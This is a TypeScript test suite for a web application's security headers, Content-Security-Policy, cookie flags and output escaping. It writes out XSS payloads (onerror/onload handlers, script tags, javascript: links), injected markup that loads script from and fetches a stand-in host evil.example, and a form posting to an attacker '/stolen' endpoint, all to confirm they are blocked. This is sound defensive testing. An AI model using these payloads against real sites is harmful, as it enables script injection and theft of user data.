import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { queryDatabase, withoutTable } from '../support/app-database.ts'
import { type AppProcess, removeApps, removeFolders, startApp } from '../support/app-process.ts'
import { openBrowser, openPage, settled, visit } from '../support/browser.ts'
import type { Answered } from './caller.ts'
import { aRanked, aVisitor, BEHIND_PROXY, expectStatus, type ProtectedPerson } from './people.ts'
import { startRudeServer } from './rude-server.ts'

let app: AppProcess
let secure: AppProcess
let browser: Browser
let admin: ProtectedPerson
beforeAll(async () => {
  const env = {
    ...BEHIND_PROXY,
    PUBLIC_URL: 'https://fettle.example',
    NODE_ENV: 'production',
    ALLOW_TEST_PAYMENTS: 'true',
  }
  ;[app, secure, browser] = await Promise.all([startApp({ env: BEHIND_PROXY }), startApp({ env }), openBrowser()])
  admin = await aRanked(app, 'super_admin')
})
afterAll(async () => {
  await browser.close()
  await removeApps()
  removeFolders()
})

const PAGES = [
  '/',
  '/auth',
  '/auth?mode=register',
  '/explore',
  '/fxn/tip-calculator',
  '/pricing',
  '/terms',
  '/privacy',
  '/support',
  '/email-preferences',
  '/api/docs',
]
const OWN_PAGES = ['/dashboard', '/settings', '/workflows', '/admin', '/admin/people', '/admin/errors', '/admin/audit']
const MISSING = ['/no-such-page', '/fxn/no-such-tool', '/workflows/x', '/%E0%A4%A', '/a/../../b', '/<script>']
const API = [
  '/api/user',
  '/api/nothing',
  '/api/openapi.json',
  '/api/tags',
  '/healthz',
  '/api/discovery/search?sort=x',
  '/hooks/x/y',
]

const directivesOf = ({ headers }: Answered): Map<string, string> =>
  new Map(
    String(headers['content-security-policy'] ?? '')
      .split(';')
      .map((directive) => directive.trim().split(/ (.*)/s))
      .map(([name = '', value = '']) => [name, value]),
  )

describe('row 50: the policy of pages', () => {
  test('lets scripts run by a nonce of this answer alone, and nothing else, on every page and failure', async () => {
    const nonces: string[] = []
    for (const [caller, paths] of [
      [aVisitor(app), [...PAGES, ...MISSING]],
      [admin, [...OWN_PAGES, '/dev/mailbox', '/dev/payments']],
    ] as const)
      for (const path of paths) {
        const answered = await caller.get(path)
        const policy = directivesOf(answered)
        const script = policy.get('script-src') ?? ''
        const nonce = /^'nonce-([\w+/]{22}==)' 'strict-dynamic'$/.exec(script)?.[1]
        expect(nonce, `${path}: ${script}`).toBeDefined()
        nonces.push(nonce ?? '')
        expect(String(answered.headers['content-security-policy']), path).not.toMatch(
          /unsafe-|\*|https?:|script-src[^;]*(data|blob):/,
        )
        expect(policy.get('default-src'), path).toBe("'none'")
        expect(policy.has('object-src'), path).toBe(false)
        expect([policy.get('base-uri'), policy.get('frame-ancestors'), policy.get('form-action')], path).toEqual([
          "'none'",
          "'none'",
          "'self'",
        ])
        // What is data and no script needs none.
        for (const [tag] of answered.text.matchAll(/<(script|style)\b(?![^>]*ld\+json)[^>]*>/g))
          expect(tag, path).toContain(`nonce="${nonce}"`)
        expect(answered.text, path).not.toMatch(/<[a-z][^>]*\s(on[a-z]+|style)\s*=/i)
        expect(answered.text, path).not.toMatch(/(src|href|action)="javascript:/i)
      }
    expect(new Set(nonces).size).toBe(nonces.length)
  })

  test('stands on what fails inside, too', async () => {
    await withoutTable(app.dataDir, 'tool', async () => {
      for (const path of ['/explore', '/api/tags', '/']) {
        const answered = await aVisitor(app).get(path)
        expect(directivesOf(answered).get('default-src'), path).toBe("'none'")
      }
    })
  })

  test('of workers lets nothing run that has no nonce either', async () => {
    const files = readdirSync(join(import.meta.dirname, '../../build/client/assets')).filter((name) =>
      /worker.*\.js$/.test(name),
    )
    expect(files.length).toBeGreaterThan(0)
    for (const file of files) {
      const policy = directivesOf(await aVisitor(app).get(`/assets/${file}`))
      // The one that holds a creator's code compiles its engine, and may ask for nothing.
      const isGuest = file.startsWith('guest.worker-')
      expect([policy.get('default-src'), policy.get('script-src'), policy.has('connect-src')], file).toEqual([
        "'none'",
        isGuest ? "'self' 'wasm-unsafe-eval'" : expect.stringMatching(/^'nonce-[\w+/]{22}==' 'strict-dynamic'$/),
        !isGuest,
      ])
    }
    expect(files.filter((file) => file.startsWith('guest.worker-'))).toHaveLength(1)
  })
})

describe('row 50: the other headers', () => {
  const COMMON = {
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'strict-origin-when-cross-origin',
    'x-frame-options': 'DENY',
    'cross-origin-opener-policy': 'same-origin',
  }

  test('stand on every answer, whatever it is, and name no software', async () => {
    const assets = readdirSync(join(import.meta.dirname, '../../build/client/assets')).slice(0, 3)
    const paths = [
      ...PAGES,
      ...MISSING,
      ...API,
      '/%zz',
      ...assets.map((file) => `/assets/${file}`),
      '/favicon.svg',
      '/assets/none.js',
    ]
    for (const path of paths)
      for (const method of ['GET', 'HEAD', 'POST', 'OPTIONS', 'DELETE']) {
        const { headers } = await aVisitor(app).send(method, path)
        expect(headers, `${method} ${path}`).toMatchObject(COMMON)
        expect([headers['x-powered-by'], headers.server, headers['strict-transport-security']], path).toEqual([
          undefined,
          undefined,
          undefined,
        ])
      }
  })

  test('keep browsers on https for a year, sub-domains included, where we are on https', async () => {
    for (const path of [...PAGES, ...MISSING, ...API, '/%zz', '/favicon.svg']) {
      const { headers } = await aVisitor(secure).get(path)
      expect(headers['strict-transport-security'], path).toBe('max-age=31536000; includeSubDomains')
      expect(headers, path).toMatchObject(COMMON)
    }
  })

  test('keep what is personal out of every cache', async () => {
    for (const path of [
      '/api/user',
      '/api/sessions',
      '/api/keys',
      '/api/workflows',
      '/api/notifications',
      '/api/admin/people',
      '/api/nothing',
    ])
      expect((await admin.get(path)).headers['cache-control'], path).toBe('no-store')
    expect((await admin.post('/api/keys', { name: 'key', scopes: ['read'] })).headers['cache-control']).toBe('no-store')
    for (const path of OWN_PAGES)
      expect((await admin.get(path)).headers['cache-control'], path).toMatch(/private|no-store/)
  })

  test('mails and pages of development are not there in production', async () => {
    for (const path of [
      '/dev/mailbox',
      '/dev/payments',
      '/dev/ui',
      '/api/dev/mails',
      '/api/dev/payments',
      '/api/dev/mails/0192f000-0000-7000-8000-000000000000/html',
      '/api/dev/mails.json',
    ])
      expect((await aVisitor(secure).get(path)).status, path).toBe(404)
  })

  test('where payments are tests in production, every page says so', async () => {
    for (const path of ['/', '/pricing', '/fxn/word-frequency'])
      expect((await aVisitor(secure).get(path)).text, path).toContain(
        '>Payments are tests here: no money moves. Do not enter a real card.</p>',
      )
    expect((await aVisitor(app).get('/')).text).not.toContain('no money moves')
  })

  test('the mailbox of development is not read by a page that lends our address another name', async () => {
    expectStatus(await aVisitor(app).get('/api/dev/mails'), 200)
    for (const host of [
      'evil.example',
      `evil.example:${app.port}`,
      'localhost.evil.example',
      `127.0.0.1.evil.example:${app.port}`,
    ])
      for (const path of ['/api/dev/mails', '/dev/mailbox', '/dev/mailbox.data']) {
        const answered = await aVisitor(app).get(path, { host })
        expect([answered.status, answered.text.includes(admin.email)], `${host}${path}`).toEqual([404, false])
      }
  })
})

const HOSTILE =
  '"\'><img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"></svg><script>window.pwned=1</script>{{7*7}}'
const LINK = 'javascript:window.pwned=1'

/** Puts hostile text wherever somebody could, or could if a rule of ours failed. */
async function plant(): Promise<string[]> {
  const sql = (text: string, values: unknown[] = []) => queryDatabase(app.dataDir, text, values)
  expectStatus(await admin.send('PATCH', '/api/user', { body: { name: HOSTILE.slice(0, 200) } }), 200)
  const { workflow } = expectStatus(await admin.post('/api/workflows', { name: HOSTILE.slice(0, 200) }), 201).body as {
    workflow: { id: string }
  }
  expectStatus(await admin.post('/api/keys', { name: HOSTILE.slice(0, 100), scopes: ['read'] }), 201)
  const report = {
    errorId: 'ERR-1700000000000-abcdef',
    message: HOSTILE,
    stack: `Error: ${HOSTILE}\n at ${HOSTILE}:1:1`,
    componentStack: HOSTILE,
    timestamp: '2026-01-01T00:00:00.000Z',
    userAgent: HOSTILE,
    url: LINK,
  }
  expectStatus(await aVisitor(app).post('/api/errors/client', report), 202)
  expectStatus(
    await aVisitor(app).post('/api/support', { name: HOSTILE.slice(0, 200), email: 'x@example.com', message: HOSTILE }),
    202,
  )
  await sql("update tool set title = $1, description = $1 where slug = 'word-frequency'", [HOSTILE])
  await sql(
    "update tag set name = $1 where id in (select tag_id from tool_tag join tool on tool.id = tool_id where slug = 'word-frequency')",
    [HOSTILE],
  )
  await sql(
    "insert into notification (id, user_id, kind, title, body, href) values (gen_random_uuid(), $1, 'role.changed', $2, $3, '//evil.example')",
    [admin.id, HOSTILE.slice(0, 200), HOSTILE],
  )
  const [group] = await sql('select id from client_error_group')
  const [mail] = await sql("select id from mail where subject = 'Message to support'")
  return [
    '/',
    '/explore',
    '/fxn/word-frequency',
    '/dashboard',
    '/settings',
    '/workflows',
    `/workflows/${workflow.id}`,
    '/admin/people',
    '/admin/errors',
    `/admin/errors/${group?.id}`,
    '/admin/audit',
    '/dev/mailbox',
    `/api/dev/mails/${mail?.id}/html`,
    `/explore?q=${encodeURIComponent(HOSTILE)}`,
    `/auth?redirect=${encodeURIComponent(LINK)}`,
    `/no${encodeURIComponent(HOSTILE)}`,
  ]
}

describe('row 49: text that would be markup', () => {
  test('is text on every page that shows it, and no link of it runs', async () => {
    const paths = await plant()
    const { context } = await visit(browser)
    await context.addCookies([{ name: 'session', value: admin.cookies.get('session') ?? '', url: app.url }])
    const shown: string[] = []
    const lookAt = async (path: string) => {
      const page = await context.newPage()
      // A mail is no page of ours: it has no scripts that it would wait for.
      if (path.startsWith('/api/')) await page.goto(app.url + path)
      else await openPage(page, app.url + path)
      expect(await page.evaluate('[window.pwned, ...window.violations]'), path).toEqual([undefined])
      const planted = page.locator('img[src="x"], svg[onload], a[href^="javascript:"], a[href^="//"]')
      expect(await planted.count(), path).toBe(0)
      if ((await page.locator('body').textContent())?.includes('onerror=')) shown.push(path)
      await page.close()
    }
    await Promise.all(paths.map(lookAt))
    // Where it is shown it is shown as it was written.
    expect(shown).toEqual(
      expect.arrayContaining(['/dashboard', '/admin/people', '/admin/errors', '/fxn/word-frequency', '/dev/mailbox']),
    )
    await context.close()
  })
})

describe('row 50: the policy in a browser', () => {
  test('stops what got in all the same', async () => {
    const { page, problems } = await visit(browser)
    const injected =
      '<script>window.pwned="inline"</script><img src="data:x" onerror="window.pwned=\'handler\'"><base href="https://evil.example/">' +
      '<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>'
    // What a script of ours could be talked into; page.evaluate is above the policy.
    const own = `const tries = [() => eval('1'), () => Function('return 1')(), () => setTimeout('window.pwned = "timer"')]
      window.refused = tries.map((act) => { try { return act() === 1 ? 'ran' : 'refused' } catch { return 'refused' } })
      window.fetched = fetch('https://evil.example/').then(() => 'sent', () => 'refused')`
    await page.route(`${app.url}/terms`, async (route) => {
      const response = await route.fetch()
      const nonce = /nonce-([^']+)/.exec(response.headers()['content-security-policy'] ?? '')?.[1]
      const all = `${injected}<script nonce="${nonce}">${own}</script></head>`
      await route.fulfill({ response, body: (await response.text()).replace('</head>', all) })
    })
    await openPage(page, `${app.url}/terms`)
    const told = await page.evaluate(
      '(async () => [window.refused, await window.fetched, document.baseURI.includes("evil"), window.pwned])()',
    )
    expect(told).toEqual([['refused', 'refused', 'refused'], 'refused', false, undefined])
    const stopped = new Set((await problems()).filter((one) => one.startsWith('CSP')).map((one) => one.split(' ')[1]))
    expect([...stopped]).toEqual(
      expect.arrayContaining([
        'script-src-elem',
        'script-src-attr',
        'base-uri',
        'frame-src',
        'object-src',
        'connect-src',
      ]),
    )
  })

  test('keeps us out of the frames of others, and our forms with us', async () => {
    const evil = await startRudeServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end(`<iframe id="us" src="${app.url}/auth"></iframe>`),
    )
    const { page } = await visit(browser)
    await openPage(page, evil.url.replace('127.0.0.1', 'localhost'))
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    expect(await framed?.locator('form').count()).toBe(0)
    await openPage(page, `${app.url}/auth`)
    await page.evaluate(
      `{ const form = document.createElement('form'); form.action = '${evil.url}/stolen'; document.body.append(form); form.submit() }`,
    )
    await settled(page)
    expect(evil.asked).not.toContain('/stolen?')
    await evil.stop()
  })

  test('our cookie is out of reach of scripts', async () => {
    const { context, page } = await visit(browser)
    await page.goto(`${app.url}/auth`)
    await page.evaluate(
      `fetch('/api/register', { method: 'POST', headers: { 'content-type': 'application/json', 'x-requested-with': 'x' }, body: JSON.stringify({ name: 'x', email: 'browser@example.com', password: 'correct horse 42' }) })`,
    )
    expect((await context.cookies()).map(({ name, httpOnly, sameSite }) => [name, httpOnly, sameSite])).toContainEqual([
      'session',
      true,
      'Lax',
    ])
    expect(await page.evaluate('document.cookie')).not.toContain('session')
  })
})
